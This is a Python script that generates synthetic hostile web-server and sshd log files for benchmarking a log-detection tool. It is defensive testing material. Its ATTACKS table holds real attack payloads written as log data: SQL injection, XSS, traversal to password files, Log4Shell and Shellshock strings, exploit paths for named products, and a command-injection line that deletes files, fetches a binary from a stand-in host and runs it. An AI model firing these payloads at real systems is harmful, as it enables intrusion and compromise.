#!/usr/bin/env python3
"""Generate hostile log files for benches/hostile.sh: what an attacker can make a server log.

Each kind is one file of lines that the default rules match (so every line goes through
capture extraction, the costly path), built to stress one thing:

  attacks     apache  real attack requests (SQL injection, XSS, traversal, RFI, command
                      injection, Log4Shell, Shellshock, webshells, scanner user agents, sensitive
                      files, product exploits), from many addresses, browser and tool agents
  traversal   apache  `..%2f` (and other encodings) repeated hundreds of times in the URL
  percent     apache  long percent-encoded runs (%41%42..., %25 nesting) before an injection
  headers     apache  huge user agents and referers (8-16 kB, with escaped quotes) after an attack URL
  longline    apache  very long lines (48-60 kB URLs with an attack at the end)
  spaces      apache  long runs of spaces and tabs inside the request line and the user agent
  backslash   apache  long runs of backslashes and escaped quotes in the URL
  nonascii    apache  attack lines with UTF-8 text (Vietnamese) and invalid bytes in URL and agent
  sshd        syslog  sshd failures whose user name repeats " from ", ": " and spaces hundreds of
                      times (the user capture is `.*`-like and the address follows it)

Deterministic for a given seed. Python 3 standard library only.

Usage: hostile_gen.py --out DIR [--mb N] [--attack-lines N] [--kinds k1,k2] [--seed S]
Writes DIR/<kind>.log and DIR/manifest.json ({kind: {type, bytes, lines}}); files whose
parameters are unchanged are reused.
"""

import argparse
import datetime as dt
import json
import os
import random
import sys

VERSION = 1
START = dt.datetime(2026, 11, 1, 0, 0, 0)
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/119.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/7.68.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "-",
]
SCANNERS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
]

# (method, url, status, agent or None for a random browser). {n} is a varying number, {h} a host.
ATTACKS = [
    # SQL injection
    ("GET", "/news.php?id=-{n}+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version()),4--", 200, None),
    ("GET", "/search?q=%27%20OR%20%27{n}%27%3D%27{n}", 200, None),
    ("GET", "/item?id={n}%27%20AND%20SLEEP(5)--%20-", 200, None),
    ("GET", "/index.php?id={n}/**/union/**/select/**/table_name/**/from/**/information_schema.tables", 200, None),
    ("GET", "/product.php?cat={n}%20and%201=1", 200, None),
    ("GET", "/login.php?user=admin%27--&pass={n}", 200, None),
    ("GET", "/view?id={n}%2527%2520union%2520select%2520null--", 500, None),
    ("POST", "/api/items?sort=(select%20{n}%20from%20pg_sleep(5))", 500, None),
    # XSS
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E&p={n}", 200, None),
    ("GET", "/page?name=%22%3E%3Cimg%20src=x%20onerror=alert({n})%3E", 200, None),
    ("GET", "/redirect?to=javascript:alert({n})", 302, None),
    ("GET", "/q?s=<svg/onload=confirm({n})>", 400, None),
    # traversal / LFI / RFI
    ("GET", "/download.php?file=../../../../etc/passwd&v={n}", 200, None),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, None),
    ("GET", "/index.php?page=php://filter/convert.base64-encode/resource=config{n}", 200, None),
    ("GET", "/static/..%2f..%2f..%2fwindows%2fwin.ini", 404, None),
    ("GET", "/img?path=%252e%252e%252f%252e%252e%252fetc%252fshadow", 404, None),
    ("GET", "/index.php?lang=/proc/self/environ", 200, None),
    ("GET", "/index.php?page=http://{h}/shell{n}.txt?", 200, None),
    # command injection, Shellshock, Log4Shell
    ("GET", "/ping.php?host=127.0.0.1;id", 200, None),
    ("POST", "/shell?cd+/tmp;rm+-rf+*;wget+http://{h}/bins/mips;chmod+777+mips;./mips", 404, "Hello, world"),
    ("GET", "/api?q=%60uname%20-a%60&n={n}", 200, None),
    ("GET", "/cgi-bin/test.cgi", 200, '() {{ :; }}; /bin/bash -c \\"wget http://{h}/x\\"'),
    ("GET", "/?x=${{jndi:ldap://{h}:1389/a{n}}}", 200, None),
    ("GET", "/", 200, "${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{h}/x}}"),
    ("GET", "/login?user=%24%7Bjndi%3Aldap%3A%2F%2F{h}%2Fa%7D", 200, None),
    # webshells, scanners, sensitive files
    ("GET", "/wp-content/uploads/2026/10/wso.php", 200, None),
    ("GET", "/uploads/avatar{n}.php?cmd=id", 200, None),
    ("GET", "/shell.php", 404, None),
    ("GET", "/index.php?id={n}", 200, "scanner"),
    ("GET", "/cgi-bin/", 404, "scanner"),
    ("GET", "/.env", 404, None),
    ("GET", "/.git/config", 404, None),
    ("GET", "/wp-config.php.bak", 404, None),
    ("GET", "/backup{n}.sql", 404, None),
    # product exploits
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, None),
    ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", 200, None),
    ("GET", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 403, None),
    ("POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", 200, None),
    ("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=whoami", 200, None),
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 200, None),
    ("POST", "/_ignition/execute-solution", 500, None),
    ("GET", "/containers/json", 404, None),
]


def stamp(t):
    return f"{t.day:02d}/{MONTHS[t.month - 1]}/{t.year}:{t.hour:02d}:{t.minute:02d}:{t.second:02d} +0700"


class Gen:
    def __init__(self, seed, addresses):
        self.rnd = random.Random(seed)
        self.t = START
        self.i = 0
        self.addresses = addresses

    def addr(self):
        # Address k of the pool, spread over the address space; one in ten is IPv6.
        k = self.rnd.randrange(self.addresses)
        if k % 10 == 0:
            return f"2001:db8:{k >> 16:x}::{k & 0xffff:x}"
        h = (k * 2654435761) & 0xFFFFFFFF
        return f"{1 + (h >> 24) % 223}.{(h >> 16) & 255}.{(h >> 8) & 255}.{1 + h % 254}"

    def host(self):
        return f"198.51.{self.rnd.randrange(256)}.{self.rnd.randrange(1, 255)}"

    def tick(self):
        self.i += 1
        if self.i % 7 == 0:
            self.t += dt.timedelta(seconds=1)
        return stamp(self.t)

    def line(self, method, url, status, agent, referer="-"):
        if agent is None:
            agent = self.rnd.choice(BROWSERS)
        elif agent == "scanner":
            agent = self.rnd.choice(SCANNERS)
        size = self.rnd.randrange(0, 20000)
        return (f'{self.addr()} - - [{self.tick()}] "{method} {url} HTTP/1.1" {status} {size} '
                f'"{referer}" "{agent}"\n').encode("utf-8", "surrogateescape")

    def attack(self):
        m, u, s, a = self.rnd.choice(ATTACKS)
        n, h = self.rnd.randrange(1, 100000), self.host()
        u = u.format(n=n, h=h)
        if a not in (None, "scanner"):
            a = a.format(n=n, h=h)
        return self.line(m, u, s, a)

    # -- hostile kinds: one line each, about `size` bytes where it applies

    def traversal(self):
        r = self.rnd
        step = r.choice(["..%2f", "..%2F", "%2e%2e%2f", "..%252f", "../", "..\\\\", "%2e%2e/"])
        url = "/cgi-bin/" + step * r.randrange(300, 600) + "etc/passwd"
        return self.line("GET", url, 400, None)

    def percent(self):
        r = self.rnd
        run = "".join(f"%{r.randrange(0x21, 0x7f):02X}" for _ in range(r.randrange(500, 1000)))
        tail = r.choice(["%27%20OR%20%271%27%3D%271", "%3Cscript%3Ealert(1)%3C/script%3E",
                         "%252e%252e%252f%252e%252e%252fetc%252fpasswd"])
        return self.line("GET", "/search?q=" + run + "&x=" + tail, 200, None)

    def headers(self):
        r = self.rnd
        ua = ("Mozilla/5.0 (" + "; ".join(f"X{r.randrange(10**6)}" for _ in range(r.randrange(800, 1600)))
              + ') \\"quoted\\" ' + "A" * r.randrange(1000, 4000))
        ref = "http://example.org/" + "a=b&" * r.randrange(500, 1000)
        m, u, s, _ = ATTACKS[r.randrange(len(ATTACKS))]
        return self.line(m, u.format(n=1, h=self.host()), s, ua, referer=ref)

    def longline(self):
        r = self.rnd
        body = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789/=&") for _ in range(r.randrange(48000, 60000)))
        return self.line("GET", "/index.php?q=" + body + "&id=1%27%20OR%20%271%27%3D%271", 200, None)

    def spaces(self):
        r = self.rnd
        sp = lambda: "".join(r.choice(" \t") for _ in range(r.randrange(1000, 3000)))
        url = "/index.php?id=1" + sp() + "union select 1,2,3--" + sp()
        return self.line("GET", url, 400, "Mozilla/5.0" + sp() + "(compatible)" + sp())

    def backslash(self):
        r = self.rnd
        run = r.choice(["\\\\", '\\"', "\\x27"]) * r.randrange(500, 1500)
        return self.line("GET", "/index.php?id=" + run + "%27%20OR%201=1--", 200, None)

    def nonascii(self):
        r = self.rnd
        m, u, s, a = r.choice(ATTACKS)
        n, h = r.randrange(1, 100000), self.host()
        u = u.format(n=n, h=h) + r.choice(["&q=tìm kiếm", "&q=\udcff\udcfe", "&tên=Nguyễn"])
        agent = "Mozilla/5.0 (Linux; Android 13; Điện thoại) " + r.choice(["Trình duyệt", "\udcc0\udcaf"])
        return self.line(m, u, s, agent)

    def sshd(self):
        r = self.rnd
        piece = r.choice([" from ", ": ", "  ", " from 1.2.3.4 port", "x:"])
        user = "a" + piece * r.randrange(200, 500) + "b"
        pid = r.randrange(1000, 60000)
        t = self.t + dt.timedelta(seconds=self.i // 7)
        self.i += 1
        return (f"{MONTHS[t.month - 1]} {t.day:2d} {t.hour:02d}:{t.minute:02d}:{t.second:02d} host "
                f"sshd[{pid}]: Failed password for invalid user {user} from {self.addr()} port "
                f"{r.randrange(1024, 65536)} ssh2\n").encode()


KINDS = {
    "attacks": "apache",
    "traversal": "apache",
    "percent": "apache",
    "headers": "apache",
    "longline": "apache",
    "spaces": "apache",
    "backslash": "apache",
    "nonascii": "apache",
    "sshd": "syslog",
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True)
    ap.add_argument("--mb", type=float, default=20, help="size of each hostile file, MB (10^6 bytes)")
    ap.add_argument("--attack-lines", type=int, default=1_000_000, help="lines of the attacks file")
    ap.add_argument("--addresses", type=int, default=20000,
                    help="distinct client addresses the lines come from")
    ap.add_argument("--kinds", default=",".join(KINDS))
    ap.add_argument("--seed", type=int, default=20261123)
    ap.add_argument("--force", action="store_true")
    args = ap.parse_args()
    kinds = [k for k in args.kinds.split(",") if k]
    for k in kinds:
        if k not in KINDS:
            sys.exit(f"hostile_gen.py: unknown kind {k!r} (known: {', '.join(KINDS)})")
    os.makedirs(args.out, exist_ok=True)
    manifest_path = os.path.join(args.out, "manifest.json")
    try:
        manifest = json.load(open(manifest_path))
    except (OSError, ValueError):
        manifest = {}
    for kind in kinds:
        path = os.path.join(args.out, kind + ".log")
        params = {"version": VERSION, "seed": args.seed, "addresses": args.addresses,
                  "size": args.attack_lines if kind == "attacks" else args.mb}
        old = manifest.get(kind)
        if (not args.force and old and old.get("params") == params and os.path.exists(path)
                and os.path.getsize(path) == old.get("bytes")):
            continue
        g = Gen(args.seed + sum(map(ord, kind)), args.addresses)
        make = getattr(g, "attack" if kind == "attacks" else kind)
        nbytes = nlines = 0
        limit = args.mb * 1e6
        with open(path, "wb") as f:
            while (nlines < args.attack_lines) if kind == "attacks" else (nbytes < limit):
                line = make()
                f.write(line)
                nbytes += len(line)
                nlines += 1
        manifest[kind] = {"type": KINDS[kind], "bytes": nbytes, "lines": nlines, "params": params}
        print(f"hostile_gen.py: {path}: {nbytes:,} bytes, {nlines:,} lines", file=sys.stderr)
    with open(manifest_path, "w") as f:
        json.dump(manifest, f, indent=1)


if __name__ == "__main__":
    main()
